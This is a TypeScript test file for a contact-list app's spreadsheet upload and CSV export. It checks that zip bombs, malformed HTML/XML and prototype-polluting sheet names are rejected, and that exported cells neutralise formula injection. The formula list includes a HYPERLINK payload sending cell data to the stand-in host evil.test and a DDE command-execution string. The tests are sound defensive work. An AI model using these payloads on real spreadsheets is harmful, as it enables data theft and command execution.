import { describe, expect, it } from 'vitest';
import { utils, write } from 'xlsx';

import { csvLines } from '@renderer/lib/csv';
import { formOf } from '@server/testing/call-endpoint';
import type { Answer } from '@server/testing/test-client';
import { call, read } from '@server/testing/test-client';
import { useWorkspace } from '@server/testing/use-workspace';
import { zipBomb } from '@tests/support/sheets/bomb';

import { pollutionOf } from './support/hostile-values';

const workspace = useWorkspace();
const { ana } = workspace;

const upload = async (bytes: Uint8Array, name = 'contatos.xlsx'): Promise<Answer> => {
  const { id } = read('contactLists.create', await ana.post('/contact-lists', { name: 'Customers' }));
  const form = formOf({}, { field: 'file', files: [{ name, bytes }] });
  return call(workspace.url, `/contact-lists/${id}/upload`, { method: 'POST', as: ana, form });
};

function workbook(lines: unknown[][], sheet: string): Uint8Array {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet(lines), sheet);
  return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx', compression: true }) as ArrayBuffer);
}

const megabyte = 1024 * 1024;
const page = (tables: string) => Buffer.from(`<html>${tables}</html>`);
const xml = (content: string) => Buffer.from(`<?xml version="1.0"?><Workbook>${content}</Workbook>`);
const table = '<table><tr><td>Nome</td><td>Número</td></tr><tr><td>Lia</td><td>5520911110001</td></tr></table>';
const rows = [
  ['Nome', 'Número', '__proto__'],
  ['Lia', '5520911110001', 'polluted'],
];

describe('a hostile sheet', () => {
  it.each<[name: string, refusal: string, bytes: () => Promise<Uint8Array> | Uint8Array]>([
    ['a zip bomb', 'ERR_SHEET_TOO_LARGE', () => zipBomb(200 * megabyte, 200 * megabyte)],
    ['a zip bomb that claims to be small', 'ERR_SHEET_UNREADABLE', () => zipBomb(200 * megabyte, 1_000)],
    ['an archive that claims to be smaller', 'ERR_SHEET_UNREADABLE', () => zipBomb(megabyte, 1_000)],
    ['a page of unclosed tables', 'ERR_SHEET_UNREADABLE', () => page('<table><tr><td>Nome</td></tr>'.repeat(20_000))],
    ['a page of bare tables', 'ERR_SHEET_UNREADABLE', () => page('<table>'.repeat(500_000))],
    [
      'a workbook of 50,000 sheets',
      'ERR_SHEET_TOO_LARGE',
      () => xml('<Worksheet><Table></Table></Worksheet>'.repeat(50_000)),
    ],
    ['a tag of quotes', 'ERR_SHEET_UNREADABLE', () => xml('<a b="'.repeat(500_000))],
    ['blanks', 'ERR_SHEET_EMPTY', () => new Uint8Array(megabyte).fill(32)],
    ['rows without number', 'ERR_SHEET_EMPTY', () => Buffer.from('\n;'.repeat(200_000))],
  ])('%s is refused with %s while others are served', async (_name, error, bytes) => {
    const uploading = upload(await bytes());
    const [honest, answer] = await Promise.all([ana.get('/tags'), uploading]);
    expect(honest.status).toBe(200);
    expect(answer.body).toMatchObject({ error });
  });

  it('of 20,000 tables is read by its first', async () => {
    const answer = await upload(page(table + table.replace('Lia', 'Rui').repeat(20_000)));
    expect(answer).toMatchObject({ status: 200, body: [{ name: 'Lia', number: '5520911110001' }] });
  });

  it('with one quote without end adds nothing', async () => {
    const answer = await upload(Buffer.from(`nome;numero\n"${'a;'.repeat(1_000_000)}`));
    expect(answer).toMatchObject({ status: 200, body: [] });
  });

  it.each(['__proto__', 'constructor', 'toString'])('with the sheet name %s pollutes nothing', async (sheet) => {
    expect((await upload(workbook(rows, sheet))).status).toBeLessThan(500);
    expect(pollutionOf()).toEqual([]);
  });
});

describe('a CSV export', () => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("http://evil.test?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\u00a0=1+1',
  ];

  it.each(formulas)('%j stays text', (formula) => {
    expect(csvLines([[formula]])).toMatch(/^"?'/);
  });

  it('cannot be broken out of by quotes, separators and line ends', () => {
    const cell = '"\r\n=1+1;"\n"';
    expect(csvLines([[cell, 'next']])).toBe('"""\r\n=1+1;""\n""";next\r\n');
  });
});
